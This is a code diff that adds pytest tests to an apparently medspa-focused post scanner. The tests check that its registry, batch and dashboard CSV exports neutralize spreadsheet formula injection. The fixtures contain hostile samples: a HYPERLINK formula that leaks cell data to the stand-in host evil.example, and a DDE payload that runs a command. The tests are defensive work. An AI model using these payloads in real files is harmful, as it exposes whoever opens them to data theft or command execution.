@@ -328,3 +328,80 @@ def test_kill_9_during_a_2000_item_batch_keeps_what_was_scanned(tmp_path):
     assert r.returncode == 0, r.stderr[-2000:]
     assert _runs(home) == [("cli-batch", "failed"), ("cli-check", "done")]
     assert stored() == kept + 1  # the killed run's items are still there
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/"&A1,"x")'
+FORMULA_ALIAS = "+cmd|' /C calc'!A0"
+EVIL_CSV = HEADER + ('X1,"=HYPERLINK(""http://evil.example/""&A1,""x"")",' + FORMULA_ALIAS
+                     + ",@ok_handle,testimonial,all,2024-01-01,,,\n")
+
+
+def _formula_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [c for row in csv.reader(io.StringIO(text)) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_registry_export_neutralizes_formulas_and_still_imports(tmp_path):
+    """Registry names like =HYPERLINK(...) and +cmd|'/C calc'!A0 were exported raw (a spreadsheet runs them).
+    Export now prefixes such cells with an apostrophe; importing that export gives the same registry."""
+    home = tmp_path / "home"
+    (tmp_path / "evil.csv").write_text(EVIL_CSV, encoding="utf-8")
+    assert run("registry", "import", str(tmp_path / "evil.csv"), home=home).returncode == 0
+    r = run("registry", "export", "-o", str(tmp_path / "export.csv"), home=home)
+    assert r.returncode == 0, r.stderr[-2000:]
+    exported = (tmp_path / "export.csv").read_text(encoding="utf-8")
+    assert not _formula_cells(exported) and "'" + FORMULA_ALIAS in exported and "'@ok_handle" in exported
+    other = tmp_path / "other"
+    assert run("registry", "import", str(tmp_path / "export.csv"), home=other).returncode == 0
+    again = run("registry", "export", home=other)
+    assert again.stdout.decode() == exported  # the same records: the apostrophes came off on import
+    from scanner.registry import Registry
+
+    recs = Registry.all_records(Store(f"sqlite:///{other / 'medspa.db'}"))
+    assert len(recs) == 1 and recs[0].full_name == FORMULA_NAME and FORMULA_ALIAS in recs[0].aliases
+
+
+def test_batch_csv_neutralizes_formulas(tmp_path):
+    """`batch --format csv` wrote ids, evidence and messages starting with = + - @ raw."""
+    home = tmp_path / "home"
+    (tmp_path / "in.jsonl").write_text(json.dumps({
+        "id": "=1+1", "kind": "post", "channel": "instagram",
+        "text": "@jen.glows loved her lip filler with us yesterday! -Maria"}) + "\n", encoding="utf-8")
+    r = run("batch", str(tmp_path / "in.jsonl"), "--format", "csv", home=home)
+    assert r.returncode == 1, r.stderr[-2000:]
+    out = r.stdout.decode()
+    assert "'=1+1" in out and "'@jen.glows" in out and not _formula_cells(out)
+
+
+def test_dashboard_registry_csv_export_neutralizes_formulas(tmp_path, monkeypatch):
+    """The dashboard's registry download (a real page run by streamlit's AppTest, a real account and store)."""
+    from streamlit.runtime import memory_media_file_storage as media
+    from streamlit.testing.v1 import AppTest
+
+    from scanner import accounts
+
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("MEDSPA_SCAN_HOME", str(home))
+    (tmp_path / "evil.csv").write_text(EVIL_CSV, encoding="utf-8")
+    store = Store()
+    Registry.import_csv(store, tmp_path / "evil.csv", actor="tests")
+    accounts.add_user(store, "officer", "a-long-password-1", "compliance")
+    downloads: list[bytes] = []
+    real = media.MemoryMediaFileStorage.load_and_get_id
+
+    def spy(self, path_or_data, mimetype, kind, filename=None):
+        if mimetype == "text/csv":
+            downloads.append(path_or_data)
+        return real(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(media.MemoryMediaFileStorage, "load_and_get_id", spy)
+    at = AppTest.from_file(str(ROOT / "dashboard" / "views" / "registry.py"), default_timeout=120)
+    at.session_state["user"], at.session_state["role"], at.session_state["last_seen"] = "officer", "compliance", time.time()
+    at.run()
+    assert not at.exception and [b.proto.label for b in at.get("download_button")] == ["Export CSV"]
+    (data,) = downloads
+    text = data.decode("utf-8")
+    assert "'=HYPERLINK" in text and not _formula_cells(text)
